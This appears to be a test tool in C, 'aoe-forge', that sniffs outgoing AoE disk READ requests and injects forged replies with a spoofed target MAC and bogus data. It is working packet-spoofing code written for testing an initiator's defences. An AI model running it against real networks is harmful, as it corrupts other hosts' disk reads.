// SPDX-License-Identifier: GPL-2.0-only
/*
 * aoe-forge: a test tool run inside a VM guest, playing an attacker who
 * sees the initiator's AoE requests and races the target with forged
 * answers sent from another interface.
 *
 *   aoe-forge SNIFF INJECT DSTMAC SECONDS
 *
 * For every AoE ATA READ leaving SNIFF (a packet socket sees outgoing
 * frames too), send at once on INJECT a READ answer with the same tag,
 * shelf, slot and sector count, the target's MAC as source, DSTMAC as
 * destination and every data byte 'E'.  After SECONDS it prints
 * "forged N" (answers sent) and exits 0; 1 on a setup error.
 */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define ETH_HDR		14
#define AOE_HDR		10
#define ATA_HDR		12
#define AOE_RSP		0x08
#define ATA_READ	0x20
#define ATA_READ_EXT	0x24

/*
 * A packet socket on ifname for protocol proto.  Outgoing frames reach
 * only ETH_P_ALL sockets: the sniffer takes everything and filters.
 */
static int packet_socket(const char *ifname, int proto, int *ifindex)
{
	struct sockaddr_ll sll = { .sll_family = AF_PACKET };
	int fd = socket(AF_PACKET, SOCK_RAW, htons(proto));

	*ifindex = if_nametoindex(ifname);
	if (fd < 0 || !*ifindex) {
		fprintf(stderr, "aoe-forge: %s: cannot open\n", ifname);
		return -1;
	}
	sll.sll_protocol = htons(proto);
	sll.sll_ifindex = *ifindex;
	if (bind(fd, (struct sockaddr *)&sll, sizeof(sll))) {
		perror("aoe-forge: bind");
		return -1;
	}
	return fd;
}

static int parse_mac(const char *s, unsigned char mac[6])
{
	return sscanf(s, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1],
		      &mac[2], &mac[3], &mac[4], &mac[5]) == 6 ? 0 : -1;
}

/* Turn the request in buf (len bytes) into a forged answer in out. */
static size_t forge(const unsigned char *buf, size_t len,
		    const unsigned char dst[6], unsigned char *out)
{
	const unsigned char *aoe = buf + ETH_HDR, *ata = aoe + AOE_HDR;
	size_t data;

	if (len < ETH_HDR + AOE_HDR + ATA_HDR ||
	    buf[12] != ETH_P_AOE >> 8 || buf[13] != (ETH_P_AOE & 0xff) ||
	    (aoe[0] & AOE_RSP) ||
	    aoe[5] != 0 || (ata[3] != ATA_READ && ata[3] != ATA_READ_EXT))
		return 0;
	data = (size_t)ata[2] * 512;
	if (data > 9000)
		return 0;
	memcpy(out, dst, 6);
	memcpy(out + 6, buf, 6);		/* from the target's MAC */
	memcpy(out + 12, buf + 12, 2);
	memcpy(out + ETH_HDR, aoe, AOE_HDR + ATA_HDR);
	out[ETH_HDR] |= AOE_RSP;
	out[ETH_HDR + AOE_HDR + 1] = 0;		/* error/feature */
	out[ETH_HDR + AOE_HDR + 3] = 0x40;	/* status: DRDY */
	memset(out + ETH_HDR + AOE_HDR + ATA_HDR, 'E', data);
	return ETH_HDR + AOE_HDR + ATA_HDR + data;
}

int main(int argc, char **argv)
{
	static unsigned char buf[10000], out[10000];
	unsigned char dst[6];
	int sniff, inject, sidx, iidx;
	unsigned long forged = 0;
	time_t end;

	if (argc != 5 || parse_mac(argv[3], dst)) {
		fprintf(stderr, "usage: aoe-forge SNIFF INJECT DSTMAC SECONDS\n");
		return 1;
	}
	sniff = packet_socket(argv[1], ETH_P_ALL, &sidx);
	inject = packet_socket(argv[2], ETH_P_AOE, &iidx);
	if (sniff < 0 || inject < 0)
		return 1;
	end = time(NULL) + atoi(argv[4]);
	while (time(NULL) < end) {
		struct pollfd p = { .fd = sniff, .events = POLLIN };
		struct sockaddr_ll from;
		socklen_t fl = sizeof(from);
		ssize_t n;
		size_t m;

		if (poll(&p, 1, 200) <= 0)
			continue;
		n = recvfrom(sniff, buf, sizeof(buf), 0,
			     (struct sockaddr *)&from, &fl);
		if (n <= 0 || from.sll_pkttype != PACKET_OUTGOING)
			continue;
		m = forge(buf, n, dst, out);
		if (m && send(inject, out, m, 0) == (ssize_t)m)
			forged++;
	}
	printf("forged %lu\n", forged);
	return 0;
}
